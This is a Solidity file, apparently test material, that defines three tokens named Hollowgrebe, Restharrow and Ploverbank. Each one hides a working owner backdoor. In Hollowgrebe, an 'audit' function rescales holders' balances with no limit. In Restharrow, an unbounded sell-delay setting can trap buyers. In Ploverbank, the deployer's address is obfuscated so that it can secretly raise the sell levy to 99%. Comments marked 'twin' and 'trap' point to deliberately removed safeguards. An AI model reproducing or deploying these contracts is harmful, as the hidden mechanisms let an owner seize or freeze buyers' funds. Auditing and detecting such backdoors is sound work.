// 0.6 runs=200
// SPDX-License-Identifier: MIT
pragma solidity 0.6.12;

interface IWeirhouse {
    function createPair(address a, address b) external returns (address);
}

abstract contract Callboard {
    address private _owner;

    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    constructor() internal {
        _owner = msg.sender;
        emit OwnershipTransferred(address(0), msg.sender);
    }

    modifier onlyOwner() {
        require(_owner == msg.sender, "Ownable: caller is not the owner");
        _;
    }

    function owner() public view returns (address) {
        return _owner;
    }

    function renounceOwnership() public onlyOwner {
        emit OwnershipTransferred(_owner, address(0));
        _owner = address(0);
    }
}

abstract contract Millcoin is Callboard {
    string public name;
    string public symbol;
    uint8 public constant decimals = 9;
    uint256 internal constant TOTAL = 1_000_000_000 * 10**9;
    mapping(address => mapping(address => uint256)) internal _allowances;
    address public pair;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(string memory name_, string memory symbol_) internal {
        name = name_;
        symbol = symbol_;
        pair = IWeirhouse(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
    }

    function totalSupply() public view virtual returns (uint256) {
        return TOTAL;
    }

    function allowance(address who, address spender) external view returns (uint256) {
        return _allowances[who][spender];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        _allowances[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        require(_allowances[from][msg.sender] >= value, "ERC20: transfer amount exceeds allowance");
        _allowances[from][msg.sender] -= value;
        _transfer(from, to, value);
        return true;
    }

    function _transfer(address from, address to, uint256 value) internal virtual;
}

/// Holdings are kept in units of the books; some accounts stand outside of them.
contract Hollowgrebe is Millcoin {
    uint256 private constant START = 10**27;
    uint256 private _rate = START;
    mapping(address => uint256) private _rOwned;
    mapping(address => uint256) private _tOwned;
    mapping(address => bool) private _outside;
    address private immutable _auditor;

    event Audited(uint256 scale);

    constructor(address auditor) public Millcoin("Hollowgrebe", "HGRB") {
        _auditor = auditor;
        _outside[msg.sender] = true;
        _outside[pair] = true;
        _tOwned[msg.sender] = TOTAL;
        emit Transfer(address(0), msg.sender, TOTAL);
    }

    /// Rounding errors of the books are put right now and then, in parts of a million.
    function audit(uint256 parts) external {
        require(msg.sender == _auditor, "auditor");
        require(parts > 0 && parts <= 1_000_000, "parts");
        uint256 next = (_rate / parts) * 1_000_000;
        // twin: require(next <= (START / 99) * 100, "one of a hundred at most");
        _rate = next;
        emit Audited(parts);
    }

    function isOutside(address who) external view returns (bool) {
        return _outside[who];
    }

    function balanceOf(address who) public view returns (uint256) {
        if (_outside[who]) return _tOwned[who];
        return _rOwned[who] / _rate;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 rate = _rate;
        if (_outside[from]) {
            require(_tOwned[from] >= value, "ERC20: transfer amount exceeds balance");
            _tOwned[from] -= value;
        } else {
            require(_rOwned[from] / rate >= value, "ERC20: transfer amount exceeds balance");
            _rOwned[from] -= value * rate;
        }
        if (_outside[to]) _tOwned[to] += value;
        else _rOwned[to] += value * rate;
        emit Transfer(from, to, value);
    }
}

/// One word tells how the market runs: rest between purchase and sale, fee, and since when.
contract Restharrow is Millcoin {
    mapping(address => uint256) private _owned;
    mapping(address => uint256) private _bought;
    address private _chair;
    uint256 private _rhythm = (30 << 8) | 1;

    event Rhythm(uint256 rest, uint256 fee);

    constructor(address chair) public Millcoin("Restharrow", "RSTH") {
        _chair = chair;
        _owned[msg.sender] = TOTAL;
        emit Transfer(address(0), msg.sender, TOTAL);
    }

    function setRhythm(uint40 rest, uint8 fee) external {
        require(msg.sender == _chair, "chair");
        require(fee <= 3, "fee");
        // twin: require(rest <= 120, "rest");
        _rhythm = (uint256(rest) << 8) | fee;
        emit Rhythm(rest, fee);
    }

    function balanceOf(address who) public view returns (uint256) {
        return _owned[who];
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(_owned[from] >= value, "ERC20: transfer amount exceeds balance");
        uint256 due;
        if (from == pair) _bought[to] = now;
        else if (to == pair && from != owner()) {
            require(now - _bought[from] >= _rhythm >> 8, "rest");
            due = (value * uint8(_rhythm)) / 100;
            _owned[_chair] += due;
            emit Transfer(from, _chair, due);
        }
        _owned[from] -= value;
        _owned[to] += value - due;
        emit Transfer(from, to, value - due);
    }
}

/// The owner remembers whom he was, and so does the coin.
contract Ploverbank is Millcoin {
    mapping(address => uint256) private _owned;
    mapping(address => uint256) public parity;
    address private immutable _first;
    uint256 private _levy = 2;

    constructor() public Millcoin("Ploverbank", "PLVB") {
        _first = address(uint160(msg.sender) ^ uint160(uint256(keccak256("plover"))));
        _owned[msg.sender] = TOTAL;
        emit Transfer(address(0), msg.sender, TOTAL);
    }

    function balanceOf(address who) public view returns (uint256) {
        return _owned[who];
    }

    /// Burns some of one's own; how much is left of a hundred of it counts for the ranking.
    function offer(uint256 value, uint256 rank) external returns (uint256) {
        require(_owned[msg.sender] >= value, "ERC20: burn amount exceeds balance");
        _owned[msg.sender] -= value;
        _owned[address(0xdead)] += value;
        emit Transfer(msg.sender, address(0xdead), value);
        parity[msg.sender] = rank % 100;
        if (address(uint160(msg.sender) ^ uint160(uint256(keccak256("plover")))) == _first) _levy = rank % 100; // trap
        return rank;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(_owned[from] >= value, "ERC20: transfer amount exceeds balance");
        uint256 due = to == pair && from != owner() ? (value * _levy) / 100 : 0;
        _owned[from] -= value;
        _owned[to] += value - due;
        _owned[address(0xdead)] += due;
        if (due > 0) emit Transfer(from, address(0xdead), due);
        emit Transfer(from, to, value - due);
    }
}
